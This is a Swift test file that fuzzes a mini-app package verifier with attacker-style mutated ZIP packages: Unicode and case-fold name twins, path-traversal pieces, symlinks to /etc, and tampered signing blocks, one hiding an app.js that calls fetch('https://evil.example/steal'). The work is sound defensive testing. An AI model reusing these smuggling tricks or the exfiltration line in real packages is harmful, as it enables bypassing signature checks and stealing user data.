import Crypto
import Foundation
@testable import MiniAppKit

/// Draws for the generator, from the suite's seeded SplitMix64 (`SeededGenerator`): a seed
/// reproduces every package, on any machine.
extension SeededGenerator {
    mutating func below(_ bound: Int) -> Int { Int(next() % UInt64(bound)) }
    mutating func chance(_ percent: Int) -> Bool { below(100) < percent }
    mutating func pick<T>(_ items: [T]) -> T { items[below(items.count)] }
}

/// Packages made from the minimal app by mutations an attacker would try (issue 38): names of
/// random Unicode around segment boundaries, entry types under many host bytes, and signing
/// blocks with extra pairs, signers, signatures and flipped signatures. Each mutation kind is
/// one function, named in the package's description so a counterexample says what made it.
struct DifferentialPackageGenerator {
    enum Kind: String, CaseIterable, Sendable {
        case unicodeName = "unicode-name"
        case foldedTwin = "folded-twin"
        case fileAndFolder = "file-and-folder"
        case entryType = "entry-type"
        case signingBlock = "signing-block"
    }

    struct Package {
        var bytes: [UInt8]
        var kinds: [Kind]
        var steps: [String]
    }

    typealias Entry = CraftedZip.Entry

    static let key: SigningKey = SignedPackageSurgery.key
    static let otherKey: SigningKey = try! SigningKey.load(pem: P256.Signing.PrivateKey().pemRepresentation)

    /// Combining marks, Prepend characters, joiners and other ignorables, case-fold twins,
    /// separators and dots: the pieces names are made of.
    static let combining: [String] = (0x300...0x36F).map { String(Unicode.Scalar($0)!) }
    static let prepend: [String] = [0x600, 0x601, 0x602, 0x603, 0x604, 0x605, 0x6DD, 0x70F, 0x8E2, 0x110BD, 0x110CD].map {
        String(Unicode.Scalar($0)!)
    }
    static let ignorable: [String] = [0x200B, 0x200C, 0x200D, 0xFEFF, 0x202E, 0xAD, 0x2060].map { String(Unicode.Scalar($0)!) }
    static let foldTwins: [[String]] = [
        ["\u{1C80}", "\u{432}", "\u{412}"], ["\u{212A}", "K", "k"], ["\u{DF}", "\u{1E9E}", "ss", "SS"], ["\u{131}", "I", "i", "\u{130}"],
        ["\u{3C2}", "\u{3C3}", "\u{3A3}"], ["\u{FB00}", "ff", "FF"], ["\u{FF21}", "\u{FF41}"], ["\u{E9}", "e\u{301}", "\u{C9}"],
        ["\u{212B}", "\u{C5}", "\u{E5}"],
    ]
    static let structural: [String] = ["/", "/", "\\", ".", "..", "//", ":", " ", "C:", "\u{0}", "/../", "./", "../", "...", ".. "]
    static let ordinary: [String] = ["app.js", "manifest.json", "pages", "index", "assets", "x", "app", "js", "a", "i18n", "en.json"]

    var random: SeededGenerator

    init(seed: UInt64) { random = SeededGenerator(seed: seed) }

    mutating func package() throws -> Package {
        var zip = CraftedZip.minimalApp()
        for index in zip.entries.indices where random.chance(30) { zip.entries[index].method = 0 }
        var kinds: [Kind] = []
        var steps: [String] = []
        // Mostly one mutation, so that a good share of packages are near misses verify accepts.
        for _ in 0..<(random.chance(75) ? 1 : 2) {
            let kind = random.pick(Kind.allCases)
            kinds.append(kind)
            switch kind {
            case .unicodeName: steps.append(unicodeName(&zip))
            case .foldedTwin: steps.append(foldedTwin(&zip))
            case .fileAndFolder: steps.append(fileAndFolder(&zip))
            case .entryType: steps.append(entryType(&zip))
            case .signingBlock: break
            }
        }
        var bytes = zip.bytes()
        if kinds.contains(.signingBlock) || random.chance(30) {
            let signed = (try? SignedPackageSurgery.sign(bytes)) ?? bytes
            if kinds.contains(.signingBlock), signed != bytes {
                let (mutated, step) = try signingBlock(signed)
                bytes = mutated
                steps.append(step)
            } else {
                bytes = signed
                steps.append("signed")
            }
        }
        return Package(bytes: bytes, kinds: kinds, steps: steps)
    }

    // MARK: - Names

    private mutating func randomPiece() -> String {
        switch random.below(6) {
        case 0: random.pick(Self.combining)
        case 1: random.pick(Self.prepend)
        case 2: random.pick(Self.ignorable)
        case 3: random.pick(random.pick(Self.foldTwins))
        case 4: random.pick(Self.structural)
        default: random.pick(Self.ordinary)
        }
    }

    /// A name built from pieces, or an existing name with pieces put in at scalar boundaries.
    private mutating func unicodeName(_ zip: inout CraftedZip) -> String {
        var name: String
        if random.chance(50) {
            var scalars = Array(String(decoding: random.pick(zip.entries).name, as: UTF8.self).unicodeScalars)
            // Mostly one mutation, so that a good share of packages are near misses verify accepts.
            for _ in 0..<(random.chance(75) ? 1 : 2) {
                scalars.insert(contentsOf: randomPiece().unicodeScalars, at: random.below(scalars.count + 1))
            }
            name = String(String.UnicodeScalarView(scalars))
        } else {
            name = (0..<(1 + random.below(5))).map { _ in randomPiece() }.joined()
        }
        // Under a folder of its own half the time: a name that only needs to be new to pass.
        if random.chance(50) { name = "assets/" + name }
        var entry = Entry(name, "evil(\(random.below(1000)))\n", method: random.chance(50) ? 8 : 0)
        entry.flags = random.chance(85) ? 0x0800 : 0
        insert(entry, into: &zip)
        return "name \(Self.escaped(name)) flags \(entry.flags)"
    }

    /// An existing name with one letter swapped for a case-fold or normalization twin, or cased otherwise.
    private mutating func foldedTwin(_ zip: inout CraftedZip) -> String {
        let original = String(decoding: random.pick(zip.entries).name, as: UTF8.self)
        var name = random.chance(50) ? original.uppercased() : original
        if random.chance(30) {
            // A near miss: a twin letter in a name of its own, which folds to nothing else.
            var entry = Entry("assets/twin-" + random.pick(random.pick(Self.foldTwins)) + "-\(random.below(1000)).txt", "near\n")
            entry.flags = 0x0800
            insert(entry, into: &zip)
            return "near twin \(Self.escaped(String(decoding: entry.name, as: UTF8.self)))"
        }
        if random.chance(60) {
            let twins = random.pick(Self.foldTwins)
            var scalars = Array(name.unicodeScalars)
            let at = random.below(scalars.count + 1)
            scalars.insert(contentsOf: random.pick(twins).unicodeScalars, at: at)
            name = String(String.UnicodeScalarView(scalars))
            // The same name with another twin in that place, so the pair folds together.
            var other = Array(original.unicodeScalars)
            other.insert(contentsOf: random.pick(twins).unicodeScalars, at: min(at, other.count))
            var first = Entry(String(String.UnicodeScalarView(other)), "a\n")
            first.flags = 0x0800
            insert(first, into: &zip)
        }
        var entry = Entry(name, "twin\n")
        entry.flags = 0x0800
        insert(entry, into: &zip)
        return "twin \(Self.escaped(name)) of \(Self.escaped(original))"
    }

    /// A directory entry, or a file below, named like an existing file.
    private mutating func fileAndFolder(_ zip: inout CraftedZip) -> String {
        let file = String(decoding: random.pick(zip.entries).name, as: UTF8.self)
        // Conflicts, and near misses that share a prefix without being the same path.
        let near = random.pick([file + "x/", file + "_/" + random.pick(Self.ordinary), file + ".d/", String(file.dropLast()) + "/"])
        let name = random.chance(35) ? near : random.chance(50) ? file + "/" : file + "/" + random.pick(Self.ordinary)
        let entry = Entry(name, name.hasSuffix("/") ? "" : "under\n", method: 0)
        insert(entry, into: &zip)
        return "folder \(Self.escaped(name))"
    }

    // MARK: - Entry types

    private mutating func entryType(_ zip: inout CraftedZip) -> String {
        let index = random.below(zip.entries.count)
        let host = UInt16(random.pick([0, 3, 5, 6, 7, 10, 11, 13, 14, 16, 19, 30]))
        let type = UInt32(random.pick([0o100000, 0o100000, 0o100000, 0o120000, 0o040000, 0o020000, 0o060000, 0o010000, 0o140000, 0, 0]))
        let dos = UInt32(random.pick([0, 0, 0x20, 0x20, 0x10, 0x01, 0x400]))
        zip.entries[index].madeBy = host << 8 | UInt16(random.pick([0x14, 0x1E, 0x32, 0x3F]))
        zip.entries[index].externalAttributes = (type | 0o644) << 16 | dos
        if type == 0o120000, random.chance(50) {
            zip.entries[index].content = Array(random.pick(["/etc", "../../x", "/tmp", "app.js"]).utf8)
            zip.entries[index].method = 0
        }
        return
            "type \(String(type, radix: 8)) host \(host) dos \(String(dos, radix: 16)) on \(Self.escaped(String(decoding: zip.entries[index].name, as: UTF8.self)))"
    }

    private mutating func insert(_ entry: Entry, into zip: inout CraftedZip) {
        zip.entries.insert(entry, at: random.below(zip.entries.count + 1))
    }

    // MARK: - Signing blocks

    private mutating func signingBlock(_ signed: [UInt8]) throws -> ([UInt8], String) {
        let value = try SignedPackageSurgery.developerValue(of: signed)
        let developer = (SigningBlock.developerSignatureID, value)
        var hidden = CraftedZip.minimalApp()
        hidden.entries[2] = Entry("app.js", "fetch('https://evil.example/steal')\n")
        let payload: [UInt8] = random.chance(50) ? hidden.bytes() : (0..<random.below(64)).map { _ in UInt8(random.below(256)) }
        let signer = try SigningBlock.signer(in: value[...])
        func lp(_ bytes: [UInt8]) -> [UInt8] { SigningBlock.lengthPrefixed(bytes) }
        let signerBytes = lp(signer.signedData) + lp(lp(u32(signer.algorithm) + lp(signer.signature))) + lp(signer.publicKey)
        let step: String
        let pairs: [(UInt32, [UInt8])]
        switch random.below(8) {
        case 7:
            // Signed again as the packer signs: the block verify must accept.
            return (signed, "signed")
        case 0:
            step = "unknown pair of \(payload.count) bytes"
            pairs = [developer, (UInt32(random.next() & 0xFFFF_FFFF), payload)]
        case 1:
            step = "padding pair"
            pairs = [developer, (SigningBlock.paddingID, [UInt8](repeating: 0, count: random.below(64)))]
        case 2:
            step = "second signer"
            let other = try PackageSigner.sign(
                try SignedPackageSurgery.unsignedPart(of: signed), key: Self.otherKey,
                certificate: try SigningCertificate.selfSigned(for: Self.otherKey, appID: "evil", notBefore: 0))
            let otherSigner = try SigningBlock.signer(in: try SignedPackageSurgery.developerValue(of: other)[...])
            let second =
                lp(otherSigner.signedData) + lp(lp(u32(otherSigner.algorithm) + lp(otherSigner.signature))) + lp(otherSigner.publicKey)
            pairs = [
                (SigningBlock.developerSignatureID, lp(random.chance(50) ? lp(signerBytes) + lp(second) : lp(second) + lp(signerBytes)))
            ]
        case 3:
            step = "extra signature entry of \(payload.count) bytes"
            let signatures = lp(u32(signer.algorithm) + lp(signer.signature)) + lp(u32(UInt32(random.below(0x10000))) + lp(payload))
            pairs = [(SigningBlock.developerSignatureID, lp(lp(lp(signer.signedData) + lp(signatures) + lp(signer.publicKey))))]
        case 4:
            step = "flipped s"
            let raw = [UInt8](try P256.Signing.ECDSASignature(derRepresentation: signer.signature).rawRepresentation)
            let flipped = [UInt8](
                try P256.Signing.ECDSASignature(
                    rawRepresentation: Array(raw[..<32]) + ECDSALowS.subtract(ECDSALowS.order, Array(raw[32...]))
                ).derRepresentation)
            pairs = [
                (
                    SigningBlock.developerSignatureID,
                    lp(lp(lp(signer.signedData) + lp(lp(u32(signer.algorithm) + lp(flipped))) + lp(signer.publicKey)))
                )
            ]
        case 5:
            step = "trailing bytes"
            pairs = [(SigningBlock.developerSignatureID, lp(lp(signerBytes + [UInt8(random.below(256))])) + (random.chance(50) ? [0] : []))]
        default:
            step = "second developer pair"
            pairs = [developer, developer]
        }
        return (try SignedPackageSurgery.replaceBlock(of: signed, with: SignedPackageSurgery.block(pairs: pairs)), step)
    }

    static func escaped(_ text: String) -> String {
        "'"
            + text.unicodeScalars.map { $0.isASCII && $0.value >= 0x20 && $0 != "'" ? String($0) : "\\u{\(String($0.value, radix: 16))}" }
            .joined() + "'"
    }
}
